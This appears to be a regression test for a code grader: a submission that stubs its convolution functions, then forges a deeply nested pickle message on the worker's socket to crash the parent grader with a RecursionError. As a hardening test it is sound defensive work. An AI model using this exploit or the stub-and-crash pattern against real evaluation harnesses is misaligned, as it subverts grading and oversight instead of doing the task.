# expected: error
# message: nested more than
# Forged hello (import failed) with a 200000-deep nested list as "message", written straight to
# the socket at import. The parent formats it in grade_problem's except ImportFailed handler,
# outside run_check: the RecursionError escapes grade() and the CLI loses every problem's result.
# torch.load(weights_only=True) reads it
# (its unpickler is iterative), then session.Worker.request runs str() on it -> RecursionError in
# the parent -> run_check turns it into GraderBug: "internal grader error", exit code 4.
import io, struct, zipfile
import torch
import grader.runner.plain as _plain
def X(s):
    b = s.encode(); return b'X' + struct.pack('<I', len(b)) + b
def deep_payload(n=200000):
    nested = b']' * n + b'a' * (n - 1)
    pkl = b'\x80\x02}(' + X('status') + X('raised') + X('message') + nested + b'u.'
    buf = io.BytesIO(); torch.save({"status": "ok"}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('data.pkl'):
                data = pkl
            z.writestr(info.filename, data)
    return out.getvalue()


_orig = _plain.encode
import os, sys
from grader.runner.channel import Channel
import socket
# Send a forged "import failed" hello on the worker's socket (fd found as the only AF_UNIX stream
# socket), then exit: the parent formats the nested message outside run_check.
for fd in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM:
        Channel(s).send(deep_payload())
        os._exit(0)
    s.detach(); os.close(fd) if False else None


def cross_correlate2d(image, kernel):
    return torch.zeros(1)

convolve2d = cross_correlate2d
conv2d = cross_correlate2d
